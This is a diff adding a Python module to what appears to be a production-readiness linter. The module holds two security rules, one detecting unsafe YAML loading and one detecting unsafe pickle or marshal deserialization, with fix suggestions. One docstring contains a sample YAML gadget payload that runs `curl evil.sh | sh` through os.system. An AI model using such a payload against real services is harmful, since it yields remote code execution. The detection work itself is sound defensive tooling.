@@ -1,0 +1,253 @@
+"""Security: unsafe YAML loading and deserialization of untrusted data (SEC006, SEC007)."""
+
+from __future__ import annotations
+
+import ast
+
+from prodready.engine.analysis import (
+    argument,
+    constant_str,
+    has_star_kwargs,
+    is_literal,
+    is_true,
+    keyword_value,
+)
+from prodready.engine.python import PythonContext
+from prodready.engine.registry import python_rule
+from prodready.engine.taint import external_source
+from prodready.model import Category, Confidence, Severity
+
+# -- SEC006 ------------------------------------------------------------------------------------
+
+_SAFE_LOADERS = ("SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader")
+_UNSAFE_LOADERS = ("Loader", "UnsafeLoader", "CLoader", "CUnsafeLoader")
+_FULL_LOADERS = ("FullLoader", "CFullLoader")
+
+
+def _local_file(stream: ast.expr | None, ctx: PythonContext) -> bool:
+    """``open("config.yaml")``, a ``with open(...) as f`` handle, or a path constant."""
+    if stream is None:
+        return False
+    if (
+        isinstance(stream, ast.Call)
+        and isinstance(stream.func, ast.Attribute)
+        and stream.func.attr == "read"
+    ):
+        return _local_file(stream.func.value, ctx)
+    name = ctx.qualname(stream) if isinstance(stream, ast.Name | ast.Call) else None
+    return name in {"builtins.open", "io.open"} or (name or "").startswith("pathlib.Path")
+
+
+@python_rule(
+    code="SEC006",
+    name="yaml-unsafe-load",
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    summary="YAML parsed with a loader that can construct arbitrary Python objects",
+    calls=(
+        "yaml.load",
+        "yaml.load_all",
+        "yaml.unsafe_load",
+        "yaml.unsafe_load_all",
+        "yaml.full_load",
+        "yaml.full_load_all",
+        "ruamel.yaml.YAML",
+    ),
+    cwe=502,
+    fix="Use yaml.safe_load(stream) (or Loader=yaml.SafeLoader / yaml.CSafeLoader).",
+)
+def yaml_unsafe_load(node: ast.Call, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags `yaml.load`/`yaml.load_all` without a safe `Loader` (`SafeLoader`, `CSafeLoader`,
+    `BaseLoader`), with `Loader=yaml.Loader/UnsafeLoader/CLoader`, `yaml.unsafe_load`, and --
+    with medium severity -- `FullLoader`/`yaml.full_load`. Also ruamel's `YAML(typ="unsafe")`.
+
+    ## Why it breaks production
+    The unsafe loaders build any Python object a document names: a YAML payload with
+    `!!python/object/apply:os.system ["curl evil.sh | sh"]` runs a command in your service.
+    Any YAML that can come from outside -- an upload, a webhook, a config fetched over the
+    network, a file in a shared bucket -- becomes remote code execution. (`yaml.load` without
+    a Loader is also a `TypeError` on PyYAML 6.)
+
+    ## Example
+    ```python
+    @app.post("/pipelines")
+    async def import_pipeline(file: UploadFile):
+        spec = yaml.load(await file.read(), Loader=yaml.Loader)
+    ```
+
+    ## Use instead
+    ```python
+    @app.post("/pipelines")
+    async def import_pipeline(file: UploadFile):
+        spec = yaml.safe_load(await file.read())
+    ```
+    """
+    if ctx.facts.is_test:
+        return
+    name = ctx.call_name or ""
+    if name == "ruamel.yaml.YAML":
+        if constant_str(argument(node, None, "typ")) == "unsafe":
+            ctx.report(
+                node,
+                'ruamel YAML(typ="unsafe") constructs arbitrary Python objects from the '
+                'document: use YAML(typ="safe")',
+            )
+        return
+    stream = argument(node, 0, "stream")
+    confidence = Confidence.MEDIUM if _local_file(stream, ctx) else Confidence.HIGH
+    function = name.rsplit(".", 1)[-1]
+    if function.startswith("unsafe_load"):
+        ctx.report(
+            node,
+            f"yaml.{function}() constructs arbitrary Python objects: a crafted document runs "
+            "code in this process. Use yaml.safe_load()",
+            confidence=confidence,
+        )
+        return
+    if function.startswith("full_load"):
+        ctx.report(
+            node,
+            f"yaml.{function}() uses FullLoader, which has allowed code execution in several "
+            "PyYAML releases: use yaml.safe_load()",
+            severity=Severity.MEDIUM,
+            confidence=confidence,
+        )
+        return
+    if has_star_kwargs(node):
+        return
+    loader = argument(node, 1, "Loader")
+    if loader is None:
+        ctx.report(
+            node,
+            f"yaml.{function}() without a Loader: PyYAML 5 falls back to an unsafe loader and "
+            "PyYAML 6 raises TypeError. Use yaml.safe_load() (or Loader=yaml.SafeLoader)",
+            confidence=confidence,
+        )
+        return
+    loader_name = (ctx.qualname(loader) or "").rsplit(".", 1)[-1]
+    if loader_name in _UNSAFE_LOADERS:
+        ctx.report(
+            node,
+            f"yaml.{function}() with Loader={loader_name} constructs arbitrary Python objects: "
+            "a crafted document runs code in this process. Use yaml.safe_load()",
+            confidence=confidence,
+        )
+    elif loader_name in _FULL_LOADERS:
+        ctx.report(
+            node,
+            f"yaml.{function}() with {loader_name}, which has allowed code execution in "
+            "several PyYAML releases: use yaml.safe_load()",
+            severity=Severity.MEDIUM,
+            confidence=confidence,
+        )
+
+
+# -- SEC007 ------------------------------------------------------------------------------------
+
+_DESERIALIZERS = {
+    "pickle.loads": "pickle",
+    "pickle.load": "pickle",
+    "pickle.Unpickler": "pickle",
+    "_pickle.loads": "pickle",
+    "_pickle.load": "pickle",
+    "cPickle.loads": "pickle",
+    "cPickle.load": "pickle",
+    "marshal.loads": "marshal",
+    "marshal.load": "marshal",
+    "dill.loads": "dill",
+    "dill.load": "dill",
+    "cloudpickle.loads": "cloudpickle",
+    "cloudpickle.load": "cloudpickle",
+    "jsonpickle.decode": "jsonpickle",
+    "joblib.load": "joblib",
+    "pandas.read_pickle": "pandas.read_pickle",
+    "numpy.load": "numpy.load(allow_pickle=True)",
+}
+
+
+@python_rule(
+    code="SEC007",
+    name="unsafe-deserialization",
+    category=Category.SECURITY,
+    severity=Severity.HIGH,
+    summary="pickle/marshal/dill/jsonpickle used on data from outside the process",
+    calls=tuple(_DESERIALIZERS),
+    cwe=502,
+    fix="Exchange data as JSON (or msgpack/protobuf) and validate it; never unpickle input.",
+)
+def unsafe_deserialization(node: ast.Call, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags `pickle.loads/load`, `marshal`, `dill`, `cloudpickle`, `jsonpickle.decode`,
+    `joblib.load`, `pandas.read_pickle` and `numpy.load(allow_pickle=True)` when the data comes
+    from outside the process: request bodies, uploaded files, handler parameters, HTTP
+    responses, sockets, message payloads or cache/Redis reads -- or when a request handler
+    unpickles anything but a local file. Unpickling files the program wrote itself is not
+    reported.
+
+    ## Why it breaks production
+    Unpickling runs code chosen by whoever wrote the bytes (`__reduce__` can return
+    `os.system`). A request body, a webhook, a queue message or a cache entry that an attacker
+    can influence -- a shared Redis without auth is enough -- becomes remote code execution in
+    the service, with its credentials and network access.
+
+    ## Example
+    ```python
+    @app.post("/jobs")
+    def submit_job():
+        job = pickle.loads(request.get_data())
+        queue.enqueue(job)
+    ```
+
+    ## Use instead
+    ```python
+    @app.post("/jobs")
+    def submit_job():
+        job = JobSpec.model_validate_json(request.get_data())
+        queue.enqueue(job.model_dump())
+    ```
+    If the bytes must be trusted objects, sign them (`hmac`) and verify before loading.
+    """
+    if ctx.facts.is_test:
+        return
+    name = ctx.call_name or ""
+    kind = _DESERIALIZERS.get(name, name)
+    if name == "numpy.load" and not is_true(keyword_value(node, "allow_pickle")):
+        return
+    data = argument(node, 0, None)
+    if data is None:
+        data = next((k.value for k in node.keywords if k.arg in {"data", "file", "s", "fp"}), None)
+    if data is None or is_literal(data):
+        return
+    source = external_source(data, ctx)
+    if source is not None:
+        confidence = Confidence.MEDIUM if source.startswith(("a cache", "a message")) else None
+        ctx.report(
+            node,
+            f"{kind} deserializes {source}: whoever controls those bytes runs code in this "
+            "process. Exchange JSON (or another data-only format) and validate it",
+            confidence=confidence or Confidence.HIGH,
+        )
+        return
+    if ctx.route is not None and not _local_file(data, ctx) and not _is_constant_path(data, ctx):
+        ctx.report(
+            node,
+            f"{kind} deserializes data inside a request handler: if any of it comes from the "
+            "client or shared storage, that is remote code execution. Use JSON and validate it",
+            confidence=Confidence.MEDIUM,
+        )
+
+
+def _is_constant_path(expr: ast.expr, ctx: PythonContext) -> bool:
+    if isinstance(expr, ast.Name):
+        value = ctx.value_of(expr.id)
+        if value is None:
+            return expr.id.isupper()
+        expr = value
+    if isinstance(expr, ast.Call):
+        return all(is_literal(a) or _is_constant_path(a, ctx) for a in expr.args)
+    if isinstance(expr, ast.Attribute):
+        return expr.attr.isupper()
+    return is_literal(expr) or isinstance(expr, ast.JoinedStr | ast.BinOp)
